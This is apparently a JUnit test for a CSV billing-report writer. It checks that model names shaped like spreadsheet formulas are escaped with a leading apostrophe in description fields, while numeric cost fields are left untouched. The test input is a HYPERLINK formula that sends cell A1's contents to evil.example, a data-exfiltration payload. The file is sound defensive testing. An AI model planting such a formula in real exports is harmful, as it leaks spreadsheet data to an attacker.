package dev.spendgate.report.focus;

import static org.assertj.core.api.Assertions.assertThat;

import dev.spendgate.domain.report.FocusCharge;
import dev.spendgate.domain.report.TokenType;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The model in the usage log is what clients sent; finance opens focus-1.1.csv in a spreadsheet. */
class FocusCsvWriterFormulaTest {
    private static final String MODEL = "=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")";

    @Test
    void write_modelNameLikeAFormula_chargeDescriptionIsTextNumbersUntouched() throws IOException {
        FocusCharge usage = new FocusCharge(
                LocalDate.of(2026, 11, 3),
                FocusCharge.Category.USAGE,
                "openai",
                "OpenAI",
                MODEL,
                TokenType.INPUT,
                Map.of(),
                1_000_000,
                new BigDecimal("2.5"),
                new BigDecimal("2.5"),
                new BigDecimal("2.5"),
                new BigDecimal("2.5"),
                1,
                null);
        FocusCharge refund = new FocusCharge(
                LocalDate.of(2026, 11, 3),
                FocusCharge.Category.ADJUSTMENT,
                "openai",
                "OpenAI",
                MODEL,
                null,
                Map.of(),
                0,
                null,
                null,
                new BigDecimal("-0.5"),
                new BigDecimal("-0.5"),
                0,
                "-refund of " + MODEL);

        List<CSVRecord> rows = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .get()
                .parse(new StringReader(new String(
                        FocusCsvWriter.create(FocusCsvWriter.Settings.DEFAULT)
                                .write(YearMonth.of(2026, 11), List.of(usage, refund)),
                        StandardCharsets.UTF_8)))
                .getRecords();

        assertThat(rows.get(0).get("ChargeDescription")).isEqualTo("'" + MODEL + " input tokens");
        assertThat(rows.get(0).get("SkuId")).isEqualTo("openai/" + MODEL + "/Input");
        assertThat(rows.get(1).get("ChargeDescription")).isEqualTo("'-refund of " + MODEL);
        assertThat(rows.get(1).get("x_AdjustmentReason")).isEqualTo("'-refund of " + MODEL);
        assertThat(rows.get(1).get("BilledCost")).isEqualTo("-0.5");
    }
}
